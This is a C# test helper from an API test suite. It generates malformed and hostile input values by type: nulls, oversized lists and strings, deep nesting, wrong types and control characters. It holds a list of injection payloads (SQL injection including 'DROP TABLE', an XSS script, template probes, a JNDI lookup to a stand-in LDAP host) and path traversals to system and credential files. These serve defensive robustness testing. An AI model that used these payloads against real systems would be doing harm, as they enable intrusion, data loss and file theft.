namespace CertGrid.Api.Tests.HostileInput;

/// <summary>The hostile variants of a value of a given type, by category.</summary>
public static class MalformedValues
{
    public const int HugeStringLength = 120_000;

    /// <summary>
    /// Stands for a lone surrogate: .NET's JSON writer would replace a real one with U+FFFD, so the suite writes the
    /// escape <c>\ud83d</c> into the request body in its place.
    /// </summary>
    public const string LoneSurrogate = "LONE-SURROGATE-D83D";
    public const int HugeListLength = 10_000;
    public const int NestingDepth = 100;

    private static readonly string[] Injections =
    [
        "' OR '1'='1' --", "x\"; DROP TABLE learners; --", "<script>alert(1)</script>", "{{7*7}}${7*7}", "${jndi:ldap://example.org/a}",
        "PartitionKey ne ''", "$where: '1 == 1'",
    ];

    private static readonly string[] Traversals = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/c/other/credentials/vc_1"];

    /// <param name="plausible">A valid value of the type, to build lists and objects around.</param>
    /// <param name="sample">Which of the text variants to use (the suite rotates through them to stay fast).</param>
    public static IEnumerable<MalformedValue> For(TypeRef type, SchemaType named, object? plausible, int sample)
    {
        if (type.IsNonNull)
        {
            yield return new("null where a value is required", null, true);
        }

        var nullable = type.Nullable;
        if (nullable.IsList)
        {
            yield return new("a huge list", Enumerable.Repeat(plausible is IList<object?> items && items.Count > 0 ? items[0] : "x", HugeListLength).ToList(), true);
            yield return new("a list holding null", new List<object?> { null }, true);
            yield return new("deeply nested lists", Nest(NestingDepth, inner => new List<object?> { inner }), true);
            yield return new("a scalar where a list of objects belongs", named.Kind == "INPUT_OBJECT" ? "not-a-list" : new Dictionary<string, object?> { ["not"] = "a list" }, true);
            yield break;
        }

        switch (named.Kind)
        {
            case "ENUM":
                yield return new("an unknown enum value", "NOT_A_VALUE", true);
                yield return new("a number where an enum belongs", 7, true);
                break;
            case "INPUT_OBJECT":
                yield return new("an unknown input field", With(plausible, "notAField", 1), true);
                yield return new("deeply nested objects", Nest(NestingDepth, inner => new Dictionary<string, object?> { ["nested"] = inner }), true);
                yield return new("a string where an object belongs", "not-an-object", true);
                break;
            default:
                foreach (var value in Scalar(named.Name, sample))
                {
                    yield return value;
                }

                break;
        }
    }

    private static IEnumerable<MalformedValue> Scalar(string typeName, int sample)
    {
        switch (typeName)
        {
            case "Int":
                yield return new("an integer beyond 32 bits", 2147483648L, true);
                yield return new("text where an integer belongs", "12abc", true);
                yield return new("a negative integer", -1, false);
                break;
            case "Float":
                yield return new("text where a number belongs", "NaN", true);
                yield return new("a negative number", -1e300, false);
                break;
            case "Boolean":
                yield return new("text where a boolean belongs", "yes", true);
                break;
            default:
                yield return new("an object where text belongs", new Dictionary<string, object?> { ["a"] = 1 }, true);
                yield return new("a lone surrogate", $"x{LoneSurrogate}y", true);
                yield return new("control characters", "a\u0000b\u001b[31m", true);
                yield return new("a huge string", new string('a', HugeStringLength), true);
                yield return new("injection-shaped text", Injections[sample % Injections.Length], false);
                yield return new("a path traversal", Traversals[sample % Traversals.Length], false);
                break;
        }
    }

    private static Dictionary<string, object?> With(object? plausible, string field, object? value)
    {
        var copy = plausible is IDictionary<string, object?> fields ? new Dictionary<string, object?>(fields) : [];
        copy[field] = value;
        return copy;
    }

    private static object? Nest(int depth, Func<object?, object?> wrap)
    {
        object? value = "x";
        for (var i = 0; i < depth; i++)
        {
            value = wrap(value);
        }

        return value;
    }
}
